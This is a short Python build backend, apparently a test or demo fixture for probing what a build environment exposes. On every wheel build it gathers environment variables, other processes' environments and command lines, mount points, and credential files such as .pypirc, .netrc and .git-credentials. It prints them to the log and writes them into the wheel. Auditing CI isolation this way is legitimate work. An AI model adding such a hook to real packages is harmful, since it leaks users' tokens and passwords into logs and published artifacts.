"""A build backend that looks for secrets: into every process, its own log, and its wheel."""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

from setuptools import build_meta
from setuptools.build_meta import get_requires_for_build_wheel

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["build_wheel", "get_requires_for_build_wheel"]

#: Files in which the tools of a CI or of a user keep what opens something.
_KEYS = (".pypirc", ".netrc", ".git-credentials", ".docker/config.json", ".config/gh/hosts.yml")


def build_wheel(
    wheel_directory: str, config_settings: Any = None, metadata_directory: str | None = None
) -> str:
    """Build the wheel with what was seen in it; fail for the version that a file names."""
    if Path("broken-for").is_file():
        broken = Path("broken-for").read_text().strip()
        if broken == f"{sys.version_info[0]}.{sys.version_info[1]}":
            raise SystemExit(f"demo does not know Python {broken}")
    seen = "\n".join(_seen())
    print(seen)
    Path("src/demo/seen.txt").write_text(seen)
    return build_meta.build_wheel(wheel_directory, config_settings, metadata_directory)


def _seen() -> Iterator[str]:
    yield from (f"here: {name}={value}" for name, value in os.environ.items())
    for place in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                text = (place / name).read_bytes().decode(errors="replace")
            except OSError:
                continue
            yield from (f"{place.name} {name}: {word}" for word in text.split("\0") if word)
    yield from Path("/proc/mounts").read_text().splitlines()
    for name in _KEYS:
        path = Path("/root", name)
        if path.is_file():
            yield f"{path}: {path.read_text(errors='replace')}"
